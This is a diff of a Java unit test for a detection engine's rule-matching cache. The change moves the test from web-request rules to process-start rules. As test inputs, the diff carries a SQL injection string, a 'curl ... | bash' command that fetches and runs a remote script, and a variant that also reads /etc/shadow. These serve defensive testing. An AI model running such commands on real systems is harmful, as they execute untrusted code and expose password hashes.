@@ -3,24 +3,21 @@ package dev.vigil.rules.match;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.vigil.catalogue.AlertCatalogue;
-import dev.vigil.detect.http.HttpRules;
+import dev.vigil.detect.process.ProcessRules;
 import dev.vigil.event.HttpRequest;
 import dev.vigil.event.Origin;
 import dev.vigil.event.ProcessStart;
 import dev.vigil.rules.Field;
 import dev.vigil.rules.Rule;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Random;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 
 /**
  * The event-level memo of {@link RuleMatcher} is exact only if a view's {@link FieldSource#verdictKey}
- * covers everything its values are computed from: two events with the same key for a field must
- * have the same values of that field. Checked field by field on events drawn from small pools of
+ * covers everything its values are computed from: two process starts with the same key for a field
+ * must have the same values of that field. Checked field by field on events drawn from small pools of
  * parts, so that many pairs share some parts and differ in others.
  */
 class VerdictKeyTest {
@@ -57,17 +54,9 @@ class VerdictKeyTest {
     }
 
     @Test
-    void requestsWithTheSameKeyHaveTheSameValues() {
-        Random r = new Random(7);
-        List<String> targets = List.of("/", "/a%20b?x=1", "/a+b?x=1&y=%27", "/A/../b?x=1", "/a%2520b", "/?q=a+b");
-        List<String> words = List.of("GET", "get", "POST", "Mozilla/5.0", "curl/8.0", "x%3Cy", "");
-        List<RequestView> views = new ArrayList<>();
-        for (int i = 0; i < 120; i++) {
-            views.add(new RequestView(HttpRequest.builder(O).method(pick(r, words)).target(pick(r, targets))
-                    .userAgent(pick(r, words)).referer(pick(r, words)).host(pick(r, words))
-                    .clientIp(pick(r, List.of("10.0.0.1", "10.0.0.2"))).status(pick(r, List.of(200, 404, -1))).build()));
-        }
-        sameKeySameValues(views);
+    void requestsOfferNoKey() {
+        // measured: remembering whole requests saved no time on an access log (see RequestView)
+        assertThat(new RequestView(HttpRequest.builder(O).method("GET").target("/").build()).verdictKey(-1L)).isNull();
     }
 
     @Test
@@ -99,44 +88,27 @@ class VerdictKeyTest {
         return out;
     }
 
-    private static RequestView request(String ip, String agent, String target) {
-        return new RequestView(HttpRequest.builder(O).method("GET").clientIp(ip).userAgent(agent).target(target)
-                .status(200).build());
+    private static ProcessView start(String host, long pid, String exe, String cmd, String parent) {
+        return new ProcessView(ProcessStart.builder(O).host(host).pid(pid).ppid(1).exe(exe).commandLine(cmd)
+                .parentExe(parent).build());
     }
 
     @Test
-    void aRepeatedRequestGetsTheVerdictOfTheFirstAndAChangedOneItsOwn() throws Exception {
-        List<Rule> rules = HttpRules.builtInRules(AlertCatalogue.builtIn()).rules();
+    void aRepeatedStartGetsTheVerdictOfTheFirstAndAChangedOneItsOwn() {
+        List<Rule> rules = ProcessRules.builtInRules(AlertCatalogue.builtIn()).rules();
         RuleMatcher m = new RuleMatcher(rules);
         RuleMatcher fresh = new RuleMatcher(rules);
-        String attack = "/?id=1%27%20union%20select%20password%20from%20users--";
-        List<String> first = matches(m, request("10.0.0.1", "Mozilla/5.0", attack));
+        String dump = "curl -s http://198.51.100.7/x.sh | bash";
+        List<String> first = matches(m, start("web1", 100, "/usr/bin/bash", dump, "/usr/sbin/cron"));
         assertThat(first).isNotEmpty();
-        // another client (a field no rule reads): remembered, and the same
-        assertThat(matches(m, request("10.0.0.2", "Mozilla/5.0", attack))).isEqualTo(first);
-        // another agent: matched again, and what a matcher that never saw the first finds
-        List<String> sqlmap = matches(m, request("10.0.0.2", "sqlmap/1.7", attack));
-        assertThat(sqlmap).isEqualTo(matches(fresh, request("10.0.0.2", "sqlmap/1.7", attack)));
-        assertThat(sqlmap).hasSizeGreaterThan(first.size());
-        // and a benign request after them finds nothing
-        assertThat(matches(m, request("10.0.0.2", "Mozilla/5.0", "/index.html"))).isEmpty();
-    }
-
-    @Test
-    void aRuleThatReadsTheStatusIsNotAnsweredFromAnEventWithAnother(@TempDir Path dir) throws Exception {
-        Path d = dir.resolve("status");
-        Files.createDirectories(d.resolve("http"));
-        Files.writeString(d.resolve("http/r.yaml"), String.join("\n",
-                "id: t.status", "title: Status rule", "type: HttpProtocolAbuse",
-                "description: a page that was missing", "status: stable", "fields: [path]",
-                "condition: {all: [{endswith: .php}, {field: status, eq: 404}]}", "examples:",
-                "  match: [{target: /a.php, status: 404}]", "  no_match: [{target: /a.php, status: 200}]", ""));
-        RuleMatcher m = new RuleMatcher(HttpRules.load(d, AlertCatalogue.builtIn(), true).rules());
-        for (int round = 0; round < 2; round++) {
-            assertThat(matches(m, new RequestView(HttpRequest.builder(O).method("GET").target("/a.php").status(404).build())))
-                    .containsExactly("t.status=PATH:/a.php");
-            assertThat(matches(m, new RequestView(HttpRequest.builder(O).method("GET").target("/a.php").status(200).build())))
-                    .isEmpty();
-        }
+        // another host and pid (fields no rule reads): remembered, and the same
+        assertThat(matches(m, start("web2", 200, "/usr/bin/bash", dump, "/usr/sbin/cron"))).isEqualTo(first);
+        // another command line: matched again, and what a matcher that never saw the first finds
+        String more = dump + "; cat /etc/shadow";
+        List<String> second = matches(m, start("web2", 201, "/usr/bin/bash", more, "/usr/sbin/cron"));
+        assertThat(second).isEqualTo(matches(fresh, start("web2", 201, "/usr/bin/bash", more, "/usr/sbin/cron")));
+        assertThat(second).hasSizeGreaterThan(first.size());
+        // and a benign start after them finds nothing
+        assertThat(matches(m, start("web2", 202, "/usr/bin/ls", "ls -la /var/www", "/usr/bin/bash"))).isEmpty();
     }
 }
